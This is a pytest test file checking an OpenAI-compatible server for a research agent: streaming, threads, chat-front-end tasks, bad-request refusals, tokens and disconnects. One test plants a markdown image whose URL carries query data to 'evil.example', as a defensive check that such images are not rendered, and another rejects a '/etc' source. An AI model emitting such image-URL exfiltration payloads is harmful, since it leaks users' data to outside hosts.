"""The real `openai` package against the served app: models and chat completions.

Also requests at their limits: long histories, refusals before any route.
"""

import json
import re
from collections.abc import Iterator
from contextlib import closing, contextmanager
from http.client import HTTPConnection
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import openai
import pytest
from openai import AsyncOpenAI, OpenAI
from openai.types.chat import ChatCompletion

from rubricem.agent.record.conversations import background_in
from rubricem.agent.reports.report import alive
from rubricem.agent.serve.feed import BEAT
from rubricem.agent.serve.openai import ATTACHED, LONGEST_TURN, MOST_BODY, dialogue, task_in
from rubricem.agent.serve.requests import RunAsked
from rubricem.agent.serve.security import Security
from tests.support.pages import QUESTION, REPORT, Programs, client, openai_served
from tests.support.policies import RUN, SUPPORTED, answer, contents, plan
from tests.support.scripted_server import Fault, Hang, Reply
from tests.support.waiting import PATIENCE, wait_for

ASKED: list[Any] = [{"role": "user", "content": QUESTION}]
CHAT = {"model": "rubricem", "messages": ASKED}
MORE = [plan("heapq"), answer(), SUPPORTED]


@pytest.fixture(scope="module")
def idle(tmp_path_factory: pytest.TempPathFactory) -> Iterator[OpenAI]:
    """A client of a server whose model is never asked."""
    with client([], tmp_path_factory.mktemp("idle")) as made:
        yield made


def asking(made: OpenAI, **more: Any) -> Any:
    return made.chat.completions.create(**{**CHAT, **more})


def test_there_is_one_model(idle: OpenAI):
    assert [model.id for model in idle.models.list()] == ["rubricem"]
    assert idle.models.retrieve("rubricem").owned_by == "rubricem"
    with pytest.raises(openai.NotFoundError, match="'gpt-4o' does not exist"):
        idle.models.retrieve("gpt-4o")


def test_a_question_is_answered_with_its_sources_where_clients_look(tmp_path: Path):
    with client([*RUN, SUPPORTED], tmp_path) as made:
        done = asking(made)
    ChatCompletion.model_validate(done.model_dump())
    [choice] = done.choices
    content = choice.message.content or ""
    assert content.startswith(REPORT)
    assert choice.finish_reason == "stop"
    assert done.usage is not None
    assert (done.usage.prompt_tokens, done.usage.completion_tokens) == (400, 80)
    assert done.usage.total_tokens == 480
    [annotation] = choice.message.annotations or []
    cited = annotation.url_citation
    assert content[cited.start_index : cited.end_index] == "[1]"
    more: Any = done.model_extra
    assert more["citations"][0].endswith("cache.md")
    assert cited.title == "lru_cache" and cited.url.startswith("http://127.0.0.1:")
    assert cited.url.endswith(f"/#/run/{more['rubricem']['run']}"), "an address that opens"
    assert more["rubricem"]["status"] == "finished"
    reasoning: Any = choice.message.model_extra
    assert "Stage: plan\n" in reasoning["reasoning_content"]
    assert "Call 1: folder: lru_cache maxsize None\n" in reasoning["reasoning_content"]


async def test_no_picture_of_a_query_or_a_title_is_drawn_while_it_works(tmp_path: Path):
    hidden = "lru_cache ![x](https://evil.example/?q=bluebell)"
    with client([plan(hidden), answer(), SUPPORTED], tmp_path) as made:
        done = made.chat.completions.create(**CHAT)
    told = str((done.choices[0].message.model_extra or {})["reasoning_content"])
    assert "evil.example" in told and not alive(told)


async def test_a_stream_tells_of_its_progress_then_the_report_then_why_it_ends(tmp_path: Path):
    with openai_served([*RUN, SUPPORTED] * 2, tmp_path) as here:
        async with AsyncOpenAI(base_url=here.url, api_key="none", max_retries=0) as made:
            create = made.chat.completions.create
            counted = {"include_usage": True}
            chunks = [c async for c in await create(**CHAT, stream=True, stream_options=counted)]
            plain = [chunk async for chunk in await create(**CHAT, stream=True)]
    assert all(chunk.choices and chunk.usage is None for chunk in plain), "it is not wanted"
    deltas = [chunk.choices[0].delta for chunk in chunks if chunk.choices]
    assert deltas[0].role == "assistant"
    kinds = ["reasoning_content" in (d.model_extra or {}) for d in deltas[1:-1]]
    assert kinds == sorted(kinds, reverse=True) and kinds[0], "reasoning comes before the report"
    content = "".join(delta.content or "" for delta in deltas)
    assert content.startswith(REPORT)
    *parts, last = [chunk for chunk in chunks if chunk.choices]
    assert {chunk.choices[0].finish_reason for chunk in parts} == {None}
    assert last.choices[0].finish_reason == "stop"
    assert (last.model_extra or {})["citations"][0].endswith("cache.md")
    assert chunks[-1].choices == [] and chunks[-1].usage is not None
    assert chunks[-1].usage.total_tokens == 480
    assert {chunk.usage for chunk in chunks[:-1]} == {None}
    assert len({chunk.id for chunk in chunks}) == 1


def test_a_second_question_goes_on_with_the_thread_of_the_first(tmp_path: Path):
    with openai_served([*RUN, SUPPORTED, "What of maxsize 0?", *MORE], tmp_path) as here:
        first = asking(here.client)
        follow: list[Any] = [
            *ASKED,
            {"role": "assistant", "content": first.choices[0].message.content},
            {"role": "user", "content": "And with maxsize 0?"},
        ]
        second = asking(here.client, messages=follow)
        told: Any = [first.model_extra, second.model_extra]
        threads = [each["rubricem"]["thread"] for each in told]
        assert threads[0] == threads[1]
        assert len(here.desk.conversations.get(threads[0]).runs) == 2
        said = contents(here.model.requests[5].body)[1][1]
        assert "Report 1:\nIt is an unbounded cache [S1]." in said
        assert said.count("And with maxsize 0?") == 1


HISTORY = "\n### Chat History:\n<chat_history>\nUSER: What of heaps?\n</chat_history>"
WEBUI: dict[str, Any] = {"max_completion_tokens": 1000, "metadata": {"task": "title_generation"}}
LIBRECHAT: dict[str, Any] = {"temperature": 0.2, "user": "64f0", "max_tokens": 75}


@pytest.mark.parametrize(
    ("task", "sent"),
    [
        (f"### Task:\nGenerate a concise, 3-5 word title with an emoji.{HISTORY}", WEBUI),
        (f"### Task:\nGenerate 1-3 broad tags for the main themes.{HISTORY}", WEBUI),
        (f"### Task:\nSuggest 3-5 relevant follow-up questions.{HISTORY}", WEBUI),
        (f"### Task:\nAnalyze the chat history: are search queries needed?{HISTORY}", WEBUI),
        ("### Task:\nYou are an autocompletion system.\n<text>What of</text>", WEBUI),
        ("Your task is to reflect the speaker's likely facial expression by an emoji.", WEBUI),
        (
            "Provide a concise, 5-word-or-less title for the conversation, using title case "
            "conventions.\n\nConversation:\nUser: What of heaps?\nAI: A tree.",
            LIBRECHAT,
        ),
    ],
)
def test_a_chat_programs_task_is_no_research(task: str, sent: dict[str, Any], tmp_path: Path):
    said = "<think>Short.</think>Heaps"
    with openai_served([said, said], tmp_path) as here:
        done = asking(here.client, messages=said_by("user", task), **sent)
        assert done.choices[0].message.content == "Heaps" and done.usage.total_tokens == 120
        chunks = list(asking(here.client, messages=said_by("user", task), stream=True, **sent))
        assert [chunk.choices[0].delta.content for chunk in chunks] == ["Heaps", None]
        assert contents(here.model.requests[0].body) == [("user", task)]
        assert here.desk.store.threads() == []


@pytest.mark.parametrize("asked", ["<user_query>\nWhy?\n</user_query>", "Why?"])
def test_a_question_to_which_a_chat_program_put_passages_is_researched(asked: str):
    text = f"{ATTACHED}, citing it.\n\n<context>\nA heap is a tree.\n</context>\n\n{asked}"
    messages = [*said_by("user", "Hello"), *said_by("assistant", "Yes?"), *said_by("user", text)]
    found = dialogue(messages, "messages")
    assert task_in(messages) == "" and found.question == "Why?"
    assert found.earlier[0] == ("assistant", "A heap is a tree.")
    assert found.background().private


def test_earlier_pictures_and_calls_of_tools_are_passed_over():
    call = {"id": "1", "type": "function", "function": {"name": "f", "arguments": "{}"}}
    found = dialogue(
        [
            *said_by("user", [*IMAGE, {"type": "text", "text": "What is this?"}]),
            {"role": "assistant", "content": None, "tool_calls": [call]},
            {"role": "tool", "tool_call_id": "1", "content": "a heap"},
            *said_by("assistant", "A heap."),
            *said_by("user", "Why?"),
        ],
        "messages",
    )
    assert found.question == "Why?"
    assert [*found.earlier] == [("user", "What is this?"), ("assistant", "A heap.")]


def said_by(role: str, content: Any) -> list[Any]:
    return [{"role": role, "content": content}]


IMAGE = [{"type": "image_url", "image_url": {"url": "data:x"}}]


@pytest.mark.parametrize(
    ("fields", "said", "param"),
    [
        ({"tools": [{"type": "function", "function": {"name": "f"}}]}, "is not", "tools"),
        ({"n": 2}, "n must be 1", "n"),
        ({"logprobs": True}, "logprobs is not supported", "logprobs"),
        ({"response_format": {"type": "json_object"}}, "must be text", "response_format"),
        ({"messages": []}, "at least 1 item", "messages"),
        ({"messages": said_by("assistant", "x")}, "be the user's", "messages"),
        ({"messages": said_by("user", " ")}, "There is no question", None),
        ({"messages": said_by("user", IMAGE)}, "only text", "messages.0.content"),
        ({"extra_body": {"rubricem": {"source": ["/etc"]}}}, "no source '/etc'", None),
        ({"extra_body": {"rubricem": {"max_secs": 3}}}, "Extra", "rubricem.max_secs"),
        ({"extra_body": {"rubricem": {"clarify": True}}}, "is not supp", "rubricem.clarify"),
    ],
)  # fmt: skip
def test_what_is_not_supported_is_a_clear_bad_request(
    fields: dict[str, Any], said: str, param: str | None, idle: OpenAI
):
    with pytest.raises(openai.BadRequestError) as refused:
        asking(idle, **fields)
    assert said in str(refused.value)
    assert refused.value.type == "invalid_request_error"
    assert refused.value.param == param


def test_what_a_run_may_be_given_besides_reaches_it_and_earlier_pictures_do_not(tmp_path: Path):
    picture = [{"type": "image_url", "image_url": {"url": "data:" + "A" * (MOST_BODY // 2)}}]
    with openai_served([*RUN, SUPPORTED], tmp_path) as here:
        options = {"rubricem": {"format": "short", "tool_calls": 3}}
        messages = [*said_by("user", picture), *said_by("assistant", "A heap."), *ASKED]
        done = asking(here.client, temperature=0.1, extra_body=options, messages=messages)
        run: Any = done.model_extra
        asked = here.desk.store.request(run["rubricem"]["run"])["ask"]
    assert (asked["answer_format"], asked["tool_calls"]) == ("short", 3)
    one = RunAsked(question="", source="python")  # type: ignore[arg-type]
    assert one.source == ("python",), "as on the command line"


def test_a_run_that_failed_is_a_server_error_or_an_event(tmp_path: Path):
    with client([Fault(401), Fault(401)], tmp_path) as made:
        with pytest.raises(openai.InternalServerError, match="requires an API key") as failed:
            asking(made)
        assert (failed.value.status_code, failed.value.type) == (502, "server_error")
        with pytest.raises(openai.APIError, match="requires an API key"):
            list(asking(made, stream=True))


def test_a_report_that_a_budget_cut_ends_for_its_length(tmp_path: Path):
    tight = {"rubricem": {"max_total_tokens": 130}}
    with client([*RUN, SUPPORTED] * 2, tmp_path, max_total_tokens=1000) as made:
        chat = asking(made, extra_body=tight)
    assert chat.choices[0].finish_reason == "length"
    assert "Ended early" in chat.choices[0].message.content


@contextmanager
def streamed(here: Programs) -> Iterator[Iterator[str]]:
    """The lines of a stream, behind the first that says what a search has found."""
    url, body = f"{here.url}/chat/completions", {**CHAT, "stream": True}
    with httpx.stream("POST", url, json=body, timeout=PATIENCE) as reply:
        lines = reply.iter_lines()
        wait_for(lambda: "Found:" in next(lines))
        yield lines


@pytest.mark.parametrize("stream", [True, False])
def test_a_client_that_goes_away_ends_its_run_with_what_there_is(stream: bool, tmp_path: Path):
    with openai_served([plan(), Hang()], tmp_path) as here:
        if stream:
            with streamed(here):
                wait_for(lambda: len(here.model.requests) == 2)
        else:
            url, body = f"{here.url}/chat/completions", {**CHAT, "stream": False}
            with closing(HTTPConnection(urlsplit(url).netloc)) as asking:
                asking.request("POST", url, json.dumps(body), {"Content-Type": "application/json"})
                wait_for(lambda: len(here.model.requests) == 2)
        wait_for(lambda: not here.desk.live)
        [run] = here.desk.store.threads()
        ended = here.desk.store.load(run)
    assert (ended.status, ended.ended_by) == ("partial", "interrupt")


def test_a_stream_is_kept_alive_while_the_model_writes(tmp_path: Path):
    slow = Reply(text=RUN[0], pieces=list(re.findall("(?s).{1,60}", RUN[0])), piece_seconds=0.3)
    with openai_served([slow, *RUN[1:], SUPPORTED], tmp_path) as here:
        body = {**CHAT, "stream": True}
        told = httpx.post(f"{here.url}/chat/completions", json=body, timeout=PATIENCE).text
    assert BEAT.decode() in told.partition("Stage: plan")[2].partition("Plan: ")[0]


def test_a_run_is_left_to_the_next_server_where_this_one_ends(tmp_path: Path):
    with openai_served([plan(), Hang()], tmp_path) as here, streamed(here) as lines:
        wait_for(lambda: len(here.model.requests) == 2)
        [work] = here.desk.live.values()
        assert work.task is not None
        work.task.get_loop().call_soon_threadsafe(here.desk.close)
        rest = "\n".join(lines)
    assert "the run goes on when it starts again" in rest
    [run] = here.desk.store.threads()
    assert not here.desk.store.has_ended(run), "nothing ended it: a server that comes takes it up"


def test_what_is_refused_at_the_door_is_told_as_its_clients_read_it(tmp_path: Path):
    with (
        openai_served([], tmp_path, Security(token="t" * 40)) as here,
        OpenAI(base_url=here.url, api_key="wrong", max_retries=0) as stranger,
        OpenAI(base_url=here.url, api_key="t" * 40, max_retries=0) as known,
    ):
        with pytest.raises(openai.AuthenticationError, match="requires its token") as unknown:
            stranger.models.list()
        assert len(list(known.models.list())) == 1, "the token is the key of its clients"
        with pytest.raises(openai.APIStatusError) as large:
            asking(known, messages=[{"role": "user", "content": "x" * MOST_BODY}])
        with pytest.raises(openai.NotFoundError, match=r"Not Found\. See") as responses:
            known.responses.create(model="rubricem", input=QUESTION)
        assert here.desk.store.threads() == []
    assert unknown.value.type == "authentication_error"
    assert large.value.status_code == 413
    assert large.value.type == "invalid_request_error"
    assert responses.value.type == "invalid_request_error"


def test_reports_of_a_history_may_be_private_and_are_not_the_persons_words(tmp_path: Path):
    earlier = [
        *said_by("user", "What of Orlivar?"),
        *said_by("assistant", "Project Zebrafish buys it."),
        *said_by("user", "And then?"),
        *said_by("assistant", "turn 3 " + "w " * LONGEST_TURN),
    ]
    with openai_served([*RUN, SUPPORTED] * 2, tmp_path, memory="off") as here:
        for messages in ([*earlier, *ASKED], [*earlier[::2], *ASKED]):
            asking(here.client, messages=messages)
        store = here.desk.store
        runs = sorted(map(store.load, store.threads()), key=lambda run: run.started_at)
        kept = [background_in(store.folder_of(run.thread), store, ()) for run in runs]
        said = contents(here.model.requests[0].body)[1][1]
    assert [run.question for run in runs] == [QUESTION] * 2
    assert [each.private for each in kept] == [True, False]
    assert {each.questions for each in kept} == {("What of Orlivar?", "And then?")}
    assert "Question 1: What of Orlivar?\nReport 1:\nProject Zebrafish" in said
    assert "turn 3 w" in said and len(said) < 2 * LONGEST_TURN
